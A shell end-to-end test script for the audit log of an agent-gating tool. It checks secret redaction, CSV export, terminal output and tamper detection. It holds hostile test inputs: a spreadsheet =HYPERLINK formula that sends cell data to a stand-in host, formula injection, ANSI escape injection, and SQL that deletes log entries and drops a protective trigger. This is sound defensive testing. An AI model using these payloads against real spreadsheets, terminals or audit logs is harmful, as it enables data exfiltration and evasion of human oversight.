#!/bin/sh
# 78-audit-review.sh: what a hostile review of the audit log found, each
# failing before its fix: an output full of tokens that froze the gate while
# it was redacted, a token cut by the capture cap stored by its first
# characters, Authorization credentials stored in clear, spreadsheet
# formulas in the CSV export, an edited log driving the terminal through
# list and stats, verify's open-session count read from a table no hash
# covers, and a log in the workdir, where the agent's commands can edit it.
. tests/e2e/lib.sh
d=$(mktemp -d /tmp/airlock-audit-review.XXXXXX)
trap 'rm -rf "$d"' EXIT
A=$AIRLOCK
mkdir -p "$d/wd"
gate() { (cd "$d/wd" && "$A" gate --no-tty --db "$1"); }

# an output of 30,000 tokens (under the 1 MiB cap) is redacted in one pass, not one per token
printf '%s\n' '{"id":"t","tool":"shell","input":{"command":"i=0; while [ $i -lt 30000 ]; do echo glpat-abcdefghijklmnopqrstu$i; i=$((i+1)); done"}}' >"$d/t.in"
start=$(date +%s)
out=$(cd "$d/wd" && timeout -k 5 60 "$A" gate --no-tty --db "$d/t.db" <"$d/t.in")
took=$(($(date +%s) - start))
expect_eq "many tokens: the call is answered" "$(printf '%s\n' "$out" | jq -r .decision)" auto
check "many tokens: recorded in seconds ($took s), not minutes" test "$took" -lt 30
check "many tokens: none on disk" sh -c "! sqlite3 '$d/t.db' 'SELECT body FROM events' | grep -q glpat-abc"

# a token cut by the 1 MiB capture cap is not stored by its first 29 characters
printf '%s\n' '{"id":"c","tool":"shell","input":{"command":"head -c 1048543 /dev/zero | tr \"\\\\0\" \" \"; printf \"ghp_%s%s\" abcdefghijklmnopqrstuvwxyzABC DEFGHIJ"}}' |
	gate "$d/c.db" >/dev/null 2>&1
expect_eq "cut token: the output was truncated" "$(sqlite3 "$d/c.db" "SELECT json_extract(body, '\$.truncated') FROM events WHERE kind = 'finished'")" 1
check "cut token: its start is not on disk" sh -c "! sqlite3 '$d/c.db' 'SELECT body FROM events' | grep -q ghp_abcdef"

# Authorization credentials: header text and a headers object
printf '%s\n' \
	'{"id":"a","tool":"shell","input":{"command":"curl -sv -H \"Authorization: Bearer opaqueT0KENvalue123456\" http://127.0.0.1:9/"}}' \
	'{"id":"b","tool":"http","input":{"url":"http://127.0.0.1:9/","headers":{"Authorization":"Basic dXNlcjpzM2NyM3Q="}}}' |
	gate "$d/a.db" >/dev/null 2>&1
check "bearer token not on disk" sh -c "! sqlite3 '$d/a.db' 'SELECT body FROM events' | grep -q opaqueT0KEN"
check "basic credential not on disk" sh -c "! sqlite3 '$d/a.db' 'SELECT body FROM events' | grep -q dXNlcjpzM2NyM3Q"
check "the header name stays" sh -c "sqlite3 '$d/a.db' 'SELECT body FROM events' | grep -q 'Bearer \[REDACTED:authorization\]'"

# CSV export: a summary a spreadsheet would run is exported as text
printf '%s\n' '{"id":"f","tool":"shell","input":{"command":"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"}}' \
	'{"id":"g","tool":"shell","input":{"command":"@SUM(1+1)"}}' | gate "$d/f.db" >/dev/null 2>&1
"$A" audit export --format csv --db "$d/f.db" >"$d/f.csv"
expect_eq "csv: formulas start with a quote" "$(python3 -c 'import csv,sys; r=list(csv.DictReader(open(sys.argv[1]))); print(" ".join(x["summary"][:2] for x in r))' "$d/f.csv")" "'= '@"
expect_eq "csv: a negative number is left as it is" "$(python3 -c 'import csv,sys; print(list(csv.DictReader(open(sys.argv[1])))[0]["exit_code"])' "$d/f.csv")" "-1"

# an edited index cannot drive the terminal through list or stats
cp "$d/f.db" "$d/e.db"
sqlite3 "$d/e.db" "UPDATE call_index SET time = char(27) || '[2J', tool = char(27) || '[31m'"
expect_eq "list and stats print no raw ESC" "$({ "$A" audit list --db "$d/e.db"; "$A" audit stats --db "$d/e.db"; } 2>&1 | LC_ALL=C tr -cd '\033' | wc -c)" 0

# a tail cut with the head anchor moved leaves its session open, from the
# chain's point of view, whatever the sessions table says
printf '%s\n' '{"id":"s","tool":"shell","input":{"command":"ls"}}' | gate "$d/s.db" >/dev/null 2>&1
sqlite3 "$d/s.db" "DROP TRIGGER events_no_delete; DELETE FROM events WHERE kind = 'session_end';
	UPDATE chain_head SET (id, hash) = (SELECT id, hash FROM events ORDER BY id DESC LIMIT 1);
	UPDATE sessions SET ended = 1"
check "open session counted from the chain" sh -c "'$A' audit verify --db '$d/s.db' | grep -q '1 open session'"
# a log inside the workdir is refused before it is made: a sandboxed
# sqlite3 there could cut its tail and move its head anchor unseen
printf '%s\n' '{"id":"w","tool":"shell","input":{"command":"touch ran"}}' >"$d/w.in"
(cd "$d/wd" && "$A" gate --no-tty --db "$d/wd/sub/audit.db" <"$d/w.in" >"$d/w.out" 2>"$d/w.err")
expect_eq "log in the workdir: refused" "$?" 125
check "log in the workdir: says why" grep -q "inside the workdir" "$d/w.err"
check "log in the workdir: nothing ran, no file made" sh -c "[ ! -e '$d/wd/ran' ] && [ ! -e '$d/wd/sub' ]"
finish
